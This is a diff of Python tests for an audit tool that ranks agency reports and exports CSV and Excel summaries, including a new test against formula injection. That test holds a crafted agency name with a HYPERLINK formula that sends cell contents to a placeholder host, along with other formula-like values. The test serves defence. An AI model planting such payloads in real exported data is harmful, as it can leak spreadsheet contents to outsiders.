@@ -71,8 +71,9 @@ def test_summaries_rank_count_and_are_byte_stable(tmp_path, store):
     again = {p.name: p.read_bytes() for p in summaries.write(store, out)}
     assert first == again
     ranking = first["ranking.csv"].decode("utf-8-sig").splitlines()
-    assert ranking[1:] == ["1,丙局,2023,95,good,0,1,a/丙局.pdf", "1,甲局,2023,95,good,0,0,a/甲局.pdf",
-                           "3,乙局,2023,82.5,good,1,1,a/乙局.pdf"]
+    assert ranking[0] == "rank,agency,year,reviewed_score,reviewed_grade,score,errors,warnings,dismissed,path"
+    assert ranking[1:] == ["1,丙局,2023,95,good,95,0,1,0,a/丙局.pdf", "1,甲局,2023,95,good,95,0,0,0,a/甲局.pdf",
+                           "3,乙局,2023,82.5,good,82.5,1,1,0,a/乙局.pdf"]
     reports = first["reports.csv"].decode("utf-8-sig").splitlines()
     assert reports[0].startswith("path,agency,agency_key,year,format")
     assert first["failures.csv"].decode("utf-8-sig").splitlines()[1] == "a/坏.pdf,corrupt,truncated PDF"
@@ -80,7 +81,7 @@ def test_summaries_rank_count_and_are_byte_stable(tmp_path, store):
 
     wb = load_workbook(out / "summary" / "summary.xlsx")
     assert wb.sheetnames == ["reports", "findings", "ranking", "failures"]
-    assert [c.value for c in wb["ranking"][4]] == [3, "乙局", 2023, 82.5, "good", 1, 1, "a/乙局.pdf"]
+    assert [c.value for c in wb["ranking"][4]] == [3, "乙局", 2023, 82.5, "good", 82.5, 1, 1, 0, "a/乙局.pdf"]
 
 
 def test_reviews_survive_reaudit_and_show_in_summaries(tmp_path, store):
@@ -98,6 +99,26 @@ def test_reviews_survive_reaudit_and_show_in_summaries(tmp_path, store):
     cols, rows = data["reports"]
     row = next(r for r in rows if r[0] == "a/乙局.pdf")
     assert (row[cols.index("confirmed")], row[cols.index("dismissed")]) == (1, 0)
+
+
+def test_summaries_show_dismissed_and_commented_findings_apart_and_rank_by_reviewed_score(store):
+    store.add_review("a/乙局.pdf", "BLANKS-a/乙局.pdf", "dismiss", "王审核", "模板空格", at="2025-06-02T10:00:00")
+    store.add_review("a/丙局.pdf", "BLANKS-a/丙局.pdf", "comment", "李复核", "待核实", at="2025-06-02T10:05:00")
+    data = summaries.tables(store)
+    cols, rows = data["reports"]
+    got = {r[0]: dict(zip(cols, r)) for r in rows}
+    yi, bing = got["a/乙局.pdf"], got["a/丙局.pdf"]
+    assert (yi["errors"], yi["warnings"], yi["dismissed"], yi["open"]) == (1, 0, 1, 1)  # the dismissed one apart
+    assert (yi["score"], yi["reviewed_score"], yi["reviewed_grade"]) == (82.5, 95.0, "excellent")  # scored again
+    assert (bing["warnings"], bing["commented"], bing["open"], bing["reviewed_score"]) == (1, 1, 1, 95)
+    cols, rows = data["findings"]
+    row = next(r for r in rows if r[cols.index("fingerprint")] == "BLANKS-a/丙局.pdf")
+    assert (row[cols.index("review")], row[cols.index("reviewer")], row[cols.index("comment")]) == (
+        "comment", "李复核", "待核实")
+    cols, rows = data["ranking"]
+    assert [(r[cols.index("agency")], r[cols.index("reviewed_score")]) for r in rows] == [
+        ("丙局", 95), ("乙局", 95.0), ("甲局", 95)]  # equal reviewed scores, by path
+    assert [r[0] for r in rows] == [1, 1, 1]
 
 
 def test_agency_names_normalised_and_mapped(tmp_path):
@@ -121,3 +142,43 @@ def test_discovery_keys_are_stable_and_unique(tmp_path):
         p.write_text("x")
     found = discover([tmp_path / "x" / "reports", tmp_path / "y" / "reports"])
     assert [i.key for i in found.inputs] == ["reports/a.pdf", "reports/sub/a.html", "reports~2/b.txt"]
+
+
+def test_a_crafted_agency_name_is_text_in_every_spreadsheet(tmp_path):
+    """An agency name (and a reviewer's comment) that a spreadsheet would run as a formula stays text: in the
+    summaries' CSV files and workbook after a real batch run, and in ``audit.export_excel`` (the evaluator
+    notebook's export)."""
+    import csv as _csv
+
+    from openpyxl import load_workbook
+
+    import audit
+    from tests._batch_helpers import fixture_text, run_fixture_batch, write_fixtures
+
+    name = '=HYPERLINK("http://example.invalid/?x="&A1,"青山区教育局")'
+    src = write_fixtures(tmp_path / "in", {
+        "a.txt": fixture_text(agency=name, year=2023, findings=["T3-ROW-SUM error"]),
+        "b.txt": fixture_text(agency="-1+1青山区财政局", year=2023)})
+    out = tmp_path / "out"
+    run_fixture_batch([str(src)], str(out))
+    with Store(out) as store:
+        fp = store.query("SELECT fingerprint FROM findings")[0]["fingerprint"]
+    audit.record_decision(out, fp, "comment", "王审核", "@SUM(A1:A9)", at="2025-06-02T10:00:00")
+    audit.load_run(out).refresh()
+    folder = out / "summary"
+    for sheet in ("reports", "findings", "ranking"):
+        with open(folder / f"{sheet}.csv", encoding="utf-8-sig", newline="") as fh:
+            cells = [c for row in _csv.reader(fh) for c in row]
+        assert "'" + name in cells and name not in cells, sheet
+        assert ("'-1+1青山区财政局" in cells) == (sheet != "findings")  # b.txt has no finding
+    with open(folder / "findings.csv", encoding="utf-8-sig", newline="") as fh:
+        assert "'@SUM(A1:A9)" in [c for row in _csv.reader(fh) for c in row]
+    wb = load_workbook(folder / "summary.xlsx")
+    for sheet in ("reports", "findings", "ranking"):
+        texts = [c for row in wb[sheet].iter_rows(min_row=2) for c in row if c.value in (name, "-1+1青山区财政局")]
+        assert len(texts) == (1 if sheet == "findings" else 2) and all(c.data_type == "s" for c in texts), sheet
+    path = audit.export_excel(tmp_path / "ranking.xlsx", {"reports": audit.load_run(out).reports.set_index("path")})
+    ws = load_workbook(path)["reports"]
+    assert [c.value for c in ws[1]][:2] == ["path", "agency"]  # the named index became a column
+    agencies = [row[1] for row in ws.iter_rows(min_row=2)]
+    assert [c.value for c in agencies] == [name, "-1+1青山区财政局"] and all(c.data_type == "s" for c in agencies)
